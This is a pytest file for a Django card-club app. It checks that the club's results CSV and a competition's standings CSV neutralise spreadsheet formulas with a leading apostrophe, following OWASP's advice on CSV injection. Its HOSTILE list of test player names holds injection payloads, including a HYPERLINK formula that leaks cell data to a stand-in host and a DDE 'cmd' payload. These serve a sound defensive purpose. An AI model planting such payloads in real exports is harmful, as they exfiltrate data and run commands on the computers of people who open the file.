"""A name a scorer typed cannot become a live formula in the secretary's spreadsheet: both CSV
downloads (the club's results, a competition's standings) write a cell that a spreadsheet would
read as a formula with a leading apostrophe (OWASP's advice on CSV injection); numbers stay
numbers."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from backup.exports import spreadsheet_cell
from matches.models import Match
from tests.factories import CompetitionFactory
from tests.league.test_stored_standings import deal

HOSTILE = ['=HYPERLINK("http://e.vil/?"&A1,"x")', "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "+31 6 1234"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Anna", "Anna"),
        ("Anna = Bob", "Anna = Bob"),
        ("", ""),
        (-5, -5),
        (Decimal("-3.25"), Decimal("-3.25")),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(value, written):
    assert spreadsheet_cell(value) == written


def rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def hostile_match(alice, club) -> Match:
    """A finished Duizenden match whose four players are named as formulas; it counts for a
    competition where every match of the club counts."""
    today = timezone.localdate()
    CompetitionFactory.create(
        club=club,
        counts="matches",
        starts_on=today - datetime.timedelta(days=1),
        ends_on=today + datetime.timedelta(days=1),
    )
    match = Match.start(club=club, game="duizenden", players=HOSTILE, options={"target": 100}, by=alice)
    match.add_round(deal(winner=0), by=alice)
    assert match.status == Match.Status.FINISHED
    return match


@pytest.mark.django_db(transaction=True)
def test_the_results_csv_writes_formula_names_as_text_and_totals_as_numbers(
    client, alice, club, hostile_match
):
    client.force_login(alice)
    [_header, *body] = rows(client.get(reverse("club_results", args=[club.pk])))
    assert sorted(row[4] for row in body) == sorted(f"'{name}" for name in HOSTILE)
    assert all(int(row[5]) and int(row[6]) for row in body)


@pytest.mark.django_db(transaction=True)
def test_the_standings_csv_writes_formula_names_as_text_and_points_as_numbers(
    client, alice, club, hostile_match
):
    client.force_login(alice)
    competition = club.competitions.get()
    [_header, *body] = rows(client.get(reverse("league_standings_csv", args=[competition.pk])))
    assert sorted(row[1] for row in body) == sorted(f"'{name}" for name in HOSTILE)
    assert [row[2] for row in body] == ["10", "8", "6", "5"]
